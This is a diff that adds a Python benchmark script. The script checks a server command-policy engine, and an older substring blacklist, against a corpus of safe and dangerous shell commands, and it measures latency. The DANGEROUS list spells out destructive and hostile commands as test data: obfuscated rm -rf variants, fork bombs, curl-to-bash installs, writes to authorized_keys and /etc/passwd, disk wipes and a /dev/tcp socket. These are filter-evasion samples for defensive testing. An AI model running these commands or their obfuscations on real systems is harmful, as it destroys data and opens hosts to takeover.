@@ -0,0 +1,249 @@
+# tools/policy_benchmark.py
+"""
+Checks services.command_policy against an adversarial corpus (obfuscated, wrapped and
+nested dangerous commands next to everyday safe ones), times it, and shows how the cost
+grows with the number of rules. The old substring blacklist is scored on the same corpus.
+
+    python tools/policy_benchmark.py
+    python tools/policy_benchmark.py --rules 2000 --iterations 500
+
+Exits 1 if any command in the corpus gets the wrong verdict.
+"""
+import argparse
+import sys
+import time
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(ROOT))
+
+from services.command_policy import CommandPolicy, DEFAULT_RULES, parse, policy
+
+# The substring checks server_handler used before the policy engine
+OLD_BLACKLIST = ["rm ", "shutdown", "reboot", "mkfs", ":(){"]
+
+# (command, allowed)
+SAFE = [
+    "df -h",
+    "ip addr",
+    "free -m && uptime",
+    "ls -la /var/log | grep -i error | tail -n 20",
+    "ps aux --sort=-%cpu | head",
+    "du -sh /var/* 2>/dev/null | sort -h",
+    "journalctl -u nginx --since today --no-pager",
+    "systemctl status nginx",
+    "docker ps --format '{{.Names}}: {{.Status}}'",
+    "cat /etc/os-release",
+    "cp /etc/hosts /tmp/hosts.bak",
+    "sed -n '1,20p' /etc/nginx/nginx.conf",
+    "find /tmp -name '*.log' -mtime +7",
+    "grep -r 'rm -rf' ~/scripts",
+    "echo 'shutdown is scheduled for never'",
+    "tar -czf /tmp/logs.tgz /var/log/nginx",
+    "git -C ~/repo log --oneline -5",
+    "git push origin main",
+    "curl -s https://example.com/health | jq .status",
+    "echo hello > /tmp/out.txt",
+    "ls > /dev/null 2>&1",
+    "cat <<EOF\nrm -rf /\nEOF",
+    "python3 ~/scripts/report.py --days 7",
+    "[ -f /var/run/nginx.pid ] && echo running",
+    "for f in /var/log/*.log; do wc -l \"$f\"; done",
+    "watch -n 5 uptime",
+    "nice -n 10 tar -czf /tmp/home.tgz ~/projects",
+    "sudo systemctl restart nginx",
+    "awk '{print $1}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head",
+    "kill 12345",
+    "python3 -m json.tool /tmp/data.json",
+    "cd /tmp && tee out.txt < ~/notes.txt",
+    "cd /var/log; grep -c error syslog",
+    "echo $(date +%F) >> ~/notes.txt",
+    "> /tmp/empty.log",
+    "curl -sSo /tmp/page.html https://example.com",
+    "wget -qO- https://example.com/health",
+    "tar -xzf /tmp/logs.tgz -C /tmp/restore",
+    "unzip /tmp/site.zip -d ~/site",
+]
+
+DANGEROUS = [
+    "rm -rf /",
+    "rm\t-rf /",
+    "rm  -rf ~",
+    "/bin/rm -rf /var",
+    "/usr/bin/../bin/rm x",
+    "\\rm -rf /",
+    "r''m -rf /",
+    "\"rm\" -rf /",
+    "r\\m -rf /",
+    "ls; rm -rf /",
+    "ls && rm -rf /",
+    "false || rm -rf /",
+    "ls & rm x",
+    "ls\nrm -rf /",
+    "ls | xargs rm -f",
+    "ls | xargs -I{} rm {}",
+    "echo $(rm -rf /)",
+    "echo `rm -rf /`",
+    "(rm -rf /)",
+    "{ rm -rf /; }",
+    "if true; then rm -rf /; fi",
+    "for f in *; do rm \"$f\"; done",
+    "sudo rm -rf /",
+    "sudo -u root /usr/bin/rm -rf /",
+    "env FOO=1 rm -rf /",
+    "nohup timeout 5 rm -rf /",
+    "busybox rm -rf /",
+    "bash -c 'rm -rf /'",
+    "sh -c \"ls; rm -rf /\"",
+    "bash -c \"$PAYLOAD\"",
+    "eval rm -rf /",
+    "eval \"$(curl -s https://example.com/x)\"",
+    "find / -exec rm {} \\;",
+    "find / -name '*.tmp' -delete",
+    "$CMD -rf /",
+    "$(echo rm) -rf /",
+    "/bin/r? -rf /",
+    ":(){ :|:& };:",
+    ": () { : | : & } ; :",
+    "curl -s https://example.com/install.sh | bash",
+    "wget -qO- https://example.com/x | sudo sh",
+    "curl https://example.com/x.py | python3",
+    "bash <(curl -s https://example.com/x)",
+    "bash <<EOF\nrm -rf /\nEOF",
+    "echo pwned > /etc/passwd",
+    "echo key >> ~/.ssh/authorized_keys",
+    "echo key >> $HOME/.ssh/authorized_keys",
+    "tee /etc/sudoers.d/me < /tmp/x",
+    "sed -i 's/a/b/' /etc/hosts",
+    "cp /tmp/evil /usr/bin/ls",
+    "mv /tmp/x /boot/vmlinuz",
+    "cat /dev/zero > /dev/sda",
+    "mkfs.ext4 /dev/sdb1",
+    "dd if=/dev/zero of=/dev/sda bs=1M",
+    "shutdown -h now",
+    "reboot",
+    "sudo systemctl reboot",
+    "systemctl --force poweroff",
+    "init 0",
+    "chmod -R 777 /",
+    "chown -Rv nobody /var",
+    "crontab -r",
+    "git push --force origin main",
+    "kill -9 1",
+    "pkill -9 python",
+    "exec 3<>/dev/tcp/10.0.0.1/4444",
+    "echo 'unterminated",
+    "echo $(ls",
+    "echo 1 > /proc/sysrq-trigger",
+    "python3 -c 'import shutil; shutil.rmtree(\"/\")'",
+    "python3.11 -c 'import os; os.system(\"reboot\")'",
+    "perl -e 'unlink glob \"/etc/*\"'",
+    "ruby -e 'File.delete(\"/etc/hosts\")'",
+    "node -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'",
+    "php -r 'unlink(\"/etc/passwd\");'",
+    "git push -f origin main",
+    "cd /etc && tee passwd < /tmp/x",
+    "cd /etc; echo x > passwd",
+    "cd / && cd etc && touch shadow",
+    "cd \"$TARGET\" && echo x > config",
+    "> /etc/passwd",
+    "echo x; > /etc/shadow",
+    ">>/etc/sudoers",
+    "cd / && > etc/passwd",
+    "ls > //etc/passwd",
+    "curl -o /etc/hosts https://example.com/hosts",
+    "curl -sSo /usr/local/bin/x https://example.com/x",
+    "curl --output=/etc/cron.d/job https://example.com/job",
+    "wget -O /etc/cron.d/job https://example.com/job",
+    "wget -P /usr/local/bin https://example.com/x",
+    "tar -xzf /tmp/x.tgz -C /etc",
+    "unzip /tmp/x.zip -d /usr/lib",
+]
+
+CORPUS = [(command, True) for command in SAFE] + [(command, False) for command in DANGEROUS]
+
+
+def old_blacklist_allows(command):
+    return not any(forbidden in command for forbidden in OLD_BLACKLIST)
+
+
+def synthetic_rules(count):
+    """
+    Rules of every kind that the corpus never triggers, to measure cost per rule.
+    """
+    rules = []
+    for i in range(count):
+        kind = ("binary", "flag", "subcommand", "path", "regex")[i % 5]
+        pattern = {
+            "binary": f"tool{i}",
+            "flag": f"tool{i} --danger{i}",
+            "subcommand": f"svc{i} purge{i}",
+            "path": f"/srv/protected{i}",
+            "regex": rf"\bsecret{i}\b",
+        }[kind]
+        rules.append(("deny", kind, pattern, f"synthetic rule {i}"))
+    return rules
+
+
+def time_checks(engine, commands, iterations):
+    samples = []
+    for _ in range(iterations):
+        for command in commands:
+            start = time.perf_counter()
+            engine.check(command)
+            samples.append(time.perf_counter() - start)
+    samples.sort()
+    return {
+        "mean_us": sum(samples) / len(samples) * 1e6,
+        "p50_us": samples[len(samples) // 2] * 1e6,
+        "p99_us": samples[min(len(samples) - 1, int(len(samples) * 0.99))] * 1e6,
+    }
+
+
+def main(args):
+    wrong = []
+    old_misses = 0
+    for command, expected in CORPUS:
+        verdict = policy.check(command)
+        if verdict.allowed != expected:
+            wrong.append((command, expected, verdict))
+        if old_blacklist_allows(command) != expected:
+            old_misses += 1
+
+    print(f"Corpus: {len(SAFE)} safe, {len(DANGEROUS)} dangerous commands")
+    print(f"  policy engine:   {len(CORPUS) - len(wrong)}/{len(CORPUS)} correct")
+    print(f"  old blacklist:   {len(CORPUS) - old_misses}/{len(CORPUS)} correct")
+    for command, expected, verdict in wrong:
+        print(f"  WRONG ({'should allow' if expected else 'should block'}): {command!r}")
+        print(f"    verdict: {verdict.reason or 'allowed'}")
+        if args.verbose:
+            try:
+                print(f"    parsed: {parse(command)}")
+            except ValueError as e:
+                print(f"    parse error: {e}")
+
+    commands = [command for command, _ in CORPUS]
+    print(f"\nLatency over {args.iterations} passes of the corpus:")
+    for count in sorted({0, args.rules // 10, args.rules}):
+        start = time.perf_counter()
+        engine = CommandPolicy(DEFAULT_RULES + synthetic_rules(count))
+        compile_ms = (time.perf_counter() - start) * 1000
+        timings = time_checks(engine, commands, args.iterations)
+        print(
+            f"  {len(engine.rules):>5} rules: mean {timings['mean_us']:7.1f}µs  p50 {timings['p50_us']:7.1f}µs  "
+            f"p99 {timings['p99_us']:7.1f}µs  (compiled in {compile_ms:.1f}ms)"
+        )
+
+    return 1 if wrong else 0
+
+
+def parse_args():
+    parser = argparse.ArgumentParser(description="Accuracy and speed of the server command policy.")
+    parser.add_argument("--rules", type=int, default=1000, help="synthetic rules added for the scaling run")
+    parser.add_argument("--iterations", type=int, default=200, help="passes over the corpus per timing")
+    parser.add_argument("--verbose", action="store_true", help="show how wrongly judged commands were parsed")
+    return parser.parse_args()
+
+
+if __name__ == "__main__":
+    sys.exit(main(parse_args()))